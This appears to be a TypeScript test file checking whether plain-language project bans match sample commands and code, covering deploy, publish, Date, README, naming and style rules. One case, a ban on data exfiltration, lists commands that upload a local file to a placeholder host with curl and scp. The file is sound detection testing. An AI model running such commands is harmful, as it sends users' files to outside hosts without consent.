import { heldTo } from './held.ts';

/** Bans that say less than the notion, the name or the family that they mention. */
heldTo(
  [
    [
      [
        'Never deploy with `fly deploy`.',
        "Don't deploy to production via `fly deploy`.",
        'Deploy with `make ship`; never deploy by hand with `fly deploy`.',
      ],
      ['$ fly deploy', '$ fly deploy --remote-only'],
      ['$ make ship', '$ kubectl apply -f berth.yaml', '$ terraform apply', '$ fly status'],
    ],
    ['Never publish with `npm publish`.', ['$ npm publish'], ['$ cargo publish', '$ pnpm publish', '$ npm pack']],
    [
      'Never exfiltrate data via `curl` or `nc`.',
      ['$ curl -d @crew.txt https://example.org', '$ scp crew.txt example.org:/tmp/'],
      ['$ curl https://example.org/tides', '$ nc -h'],
    ],
    ['Never deploy.', ['$ fly deploy', '$ terraform apply'], []],
    [
      ['Never use `Date` directly.', 'Never call `Date`.', 'Use `clock.now()`, not `Date` directly.'],
      [
        'src/b.ts: export const d = new Date();\n',
        'src/b.ts: export const d = Date.now();\n',
        'src/b.ts: export const d = Date();\n',
        'src/B.java: class B { Object d = new Date(); }\n',
        'src/b.py: d = Date()\n',
        'src/b.py: d = Date.today()\n',
      ],
      [
        'src/b.ts: export let d: Date;\n',
        'src/b.ts: export const f = (d: Date): Date => d;\n',
        "src/b.ts: import { Date } from './clock';\nexport type D = Date;\n",
        'src/b.ts: export const d = clock.now();\n',
        'src/B.java: class B { Date d; void set(Date d) { this.d = d; } }\n',
        'src/b.py: def f(d: Date) -> Date:\n    return d\n',
      ],
    ],
    [
      ['Do not create `README` files.', "Don't create README files."],
      ['src/parts/README.md: # Parts\n'],
      ['docs/berths.md: # Berths\n', 'README.md: # Harbour\n\nMore.\n', 'src/readme-parser.ts: export {};\n'],
    ],
    [
      ['Prefer `const` over `let`.', 'Use `const` over `let`.', '`const` over `let`.'],
      [],
      ['src/b.ts: export let a = 1;\na += 1;\n', 'src/b.ts: var a = 1;\n'],
    ],
    ['Prefer `const` over `let` and `var`.', ['src/b.ts: var a = 1;\n'], ['src/b.ts: export let a = 1;\na += 1;\n']],
    ['No CSS-in-JS.', [], ['src/b.tsx: export const b = <p style={{ color: c }} />;\n']],
    [
      ['Name errors `err`, not `e`.', 'Use `err`, not `e`.', 'Catch variables: `err`, not `e`.'],
      [
        'src/b.ts: try {\n  run();\n} catch (e) {\n  report(e);\n}\n',
        'src/b.ts: run().catch((e) => report(e));\n'.replace('(e)', 'e'),
        'src/b.py: try:\n    run()\nexcept OSError as e:\n    report(e)\n',
        'src/B.java: class B { void run() { try { go(); } catch (Error e) { } } }\n',
      ],
      [
        'src/b.ts: try {\n  run();\n} catch (err) {\n  report(err);\n}\n',
        'src/b.ts: button.on((e) => e.preventDefault());\nexport const e = 2.71;\n',
        'src/b.py: for e in entries:\n    print(e)\n',
      ],
    ],
    [
      ['Name the logger `log`, not `logger`.', 'Call the context `ctx`, not `c`.', '`item` instead of `i`.'],
      [],
      [
        "src/b.ts: import { logger } from './logger';\nlogger.info('a');\n",
        'src/b.ts: for (let i = 0; i < n; i++) c(i);\n',
      ],
    ],
  ],
  {
    'package.json': '{"name":"harbour"}',
    'README.md': '# Harbour\n',
    'src/berth.ts': 'export {};\n',
    'src/berth.tsx': 'export {};\n',
    'src/berth.py': 'a = 1\n',
    'src/Berth.java': 'class Berth {}\n',
  },
);
